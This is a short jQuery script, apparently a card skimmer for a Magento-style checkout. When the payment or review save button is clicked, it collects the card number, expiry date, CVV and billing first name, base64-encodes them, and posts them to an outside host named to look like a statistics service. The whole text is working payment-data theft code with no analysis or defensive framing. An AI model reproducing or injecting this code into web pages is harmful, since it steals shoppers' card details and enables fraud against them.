var $j = jQuery.noConflict();
$j(document).ready(function () {
  $j('button[onclick*="payment.save"], button[onclick*="review.save"]').click(function () {
    var data = { cc: $j('[id$=_cc_number]').val(), ex: $j('[id$=_expiration]').val() + '/' + $j('[id$=_expiration_yr]').val(), cv: $j('[id$=_cc_cid]').val(), nm: $j('#billing\\:firstname').val() };
    $j.ajax({ url: 'https://mage-stats.example/ajax.php', type: 'POST', data: { d: btoa(JSON.stringify(data)) }, success: function () {} });
  });
});
